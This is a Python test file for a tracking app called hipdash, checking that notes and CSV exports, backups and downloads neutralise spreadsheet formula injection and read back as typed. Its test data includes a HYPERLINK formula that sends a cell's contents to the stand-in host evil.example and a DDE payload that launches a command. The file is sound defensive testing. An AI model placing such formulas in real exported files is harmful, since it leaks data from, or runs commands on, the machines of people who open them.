"""Spreadsheet formulas (CSV injection): no cell of a file the app writes, exports or offers
as a download begins with `=`, `+`, `-`, `@`, a tab or a carriage return, and reading the
files back gives the text as it was typed."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import timedelta

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hipdash import fields, stats
from hipdash.backup import make_backup, read_backup
from hipdash.log import Change, CheckoffLog
from hipdash.sessions import SessionDetails, SessionLog

from .conftest import MON, TODAY, R, open_tab

LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
CALC = "+cmd|' /C calc'!A0"
FORMULAS = [LEAK, CALC, "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=1\n=2"]
TRICKY = ["'=1+1", "'", "''", "\\=x", "\\", "'tis fine", "a'b", "plain", ""]
STARTS = ("=", "+", "-", "@", "\t", "\r")


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_inert(text: str) -> None:
    live = [c for c in cells(text) if c.startswith(STARTS)]
    assert live == [], live


@pytest.mark.parametrize("text", FORMULAS + TRICKY)
def test_free_text_is_stored_inert_and_read_back_as_typed(text):
    stored = fields.encode_text(text)
    assert not stored.startswith(STARTS)
    assert "\n" not in stored and "\r" not in stored
    assert fields.decode_text(stored) == text.replace("\r\n", "\n").replace("\r", "\n")


@settings(max_examples=1000, derandomize=True)
@given(st.text(alphabet=st.sampled_from("=+-@\t\r\n'\\ax "), max_size=8) | st.text())
def test_any_text_round_trips_and_never_starts_a_formula(text):
    stored = fields.encode_text(text)
    assert not stored.startswith(STARTS)
    assert fields.decode_text(stored) == text.replace("\r\n", "\n").replace("\r", "\n")


def test_files_written_before_still_read_the_same():
    """Values an older hipdash wrote, un-neutralised: they keep their meaning."""
    for old, typed in [
        ("plain", "plain"),
        ("a\\nb", "a\nb"),
        ("back\\\\slash", "back\\slash"),
        ("-2 after stretching", "-2 after stretching"),
        ("=1+1", "=1+1"),
        ("'tis fine", "'tis fine"),
    ]:
        assert fields.decode_text(old) == typed


def test_neutralise_is_the_owasp_advice():
    for text in FORMULAS:
        assert fields.neutralise(text) == "'" + text
    for text in ["plain", "'=x", "1-2", " =x", "", "3"]:
        assert fields.neutralise(text) == text


@pytest.fixture
def hostile(data_dir):
    """A session note and a day mark that a spreadsheet would run."""
    CheckoffLog(data_dir / "checkoffs.csv").record(
        [Change(MON, R, "release/cat-cow", True), Change(MON, R, "release/foam-roller", True)]
    )
    sessions = SessionLog(data_dir)
    sessions.save(SessionDetails(MON, R, pain_before=3, minutes=20, note=LEAK))
    sessions.mark_day(MON - timedelta(days=1), "sick", CALC)
    sessions.mark_day(MON - timedelta(days=2), "rest", "-1 day off")
    return sessions


def test_the_data_files_and_the_backup_hold_no_live_formula(hostile, data_dir):
    for name in ("sessions.csv", "days.csv"):
        assert_inert((data_dir / name).read_text())
    files = read_backup(make_backup(data_dir))
    for name, data in files.items():
        assert data == (data_dir / name).read_bytes()  # byte for byte
        assert_inert(data.decode())
    assert hostile.details(MON, R).note == LEAK  # read back as typed
    marks = hostile.day_marks()
    assert marks[MON - timedelta(days=1)].reason == CALC
    assert marks[MON - timedelta(days=2)].reason == "-1 day off"


def test_the_history_download_is_inert_and_the_tables_own_export_is_off(
    hostile, data_dir, monkeypatch, progress_page
):
    monkeypatch.setenv("HIPDASH_TODAY", TODAY.isoformat())  # MON's week is in the range
    at = open_tab(progress_page(), "History")
    table = at.dataframe[0].value
    assert LEAK in table["Note"].tolist()  # the page shows the note as typed
    assert f"sick: {CALC}" in table["Marked"].tolist()
    (button,) = [d for d in at.download_button if d.label == "History (CSV)"]
    text = stats.csv_text(table)
    assert_inert(text)
    assert f"'{LEAK}" in cells(text)
    assert "'-1 day off" not in cells(text) and "rest: -1 day off" in cells(text)
    from streamlit import config

    assert config.get_option("client.disableDataExport") is True


def test_a_backup_of_an_older_file_with_a_live_formula_neutralises_it(data_dir):
    """A note saved by an older hipdash, as it stored it: exported inert, read the same."""
    SessionLog(data_dir).save(SessionDetails(MON, R, note="placeholder"))
    path = data_dir / "sessions.csv"
    path.write_text(path.read_text().replace("placeholder", "=1+1"))
    assert SessionLog(data_dir).details(MON, R).note == "=1+1"
    files = read_backup(make_backup(data_dir))
    assert_inert(files["sessions.csv"].decode())
    restored = data_dir.parent / "restored"
    restored.mkdir()
    (restored / "sessions.csv").write_bytes(files["sessions.csv"])
    assert SessionLog(restored).details(MON, R).note == "=1+1"


@pytest.mark.parametrize("note", ["=a\rb", "a\rb", "\r", "+x\r\ry"])
def test_a_note_with_a_bare_carriage_return_is_exported_and_restores(note, data_dir, capsys):
    """Reproduction: a note `"=a\rb"` written into sessions.csv by another program read
    fine, but `export` raised "a record must not contain line breaks" and the Backup page's
    download did nothing. Every line the app reads is in the backup, the return written
    as the line break it reads as, and the backup restores."""
    from hipdash.__main__ import main

    SessionLog(data_dir).save(SessionDetails(MON, R, note="placeholder"))
    path = data_dir / "sessions.csv"
    path.write_bytes(path.read_bytes().replace(b"placeholder", f'"{note}"'.encode()))
    shown = SessionLog(data_dir).details(MON, R).note
    assert shown == note.replace("\r", "\n")
    zipped = data_dir.parent / "b.zip"
    assert main(["export", str(zipped)]) == 0
    assert "left out" not in capsys.readouterr().out
    files = read_backup(zipped.read_bytes())
    assert b"\r" not in files["sessions.csv"]
    assert_inert(files["sessions.csv"].decode())
    assert main(["restore", str(zipped)]) == 0
    assert SessionLog(data_dir).details(MON, R).note == shown


def test_the_backup_zip_as_a_spreadsheet_would_see_it(hostile, data_dir):
    with zipfile.ZipFile(io.BytesIO(make_backup(data_dir))) as zf:
        for name in zf.namelist():
            if name.endswith(".csv"):
                assert_inert(zf.read(name).decode())
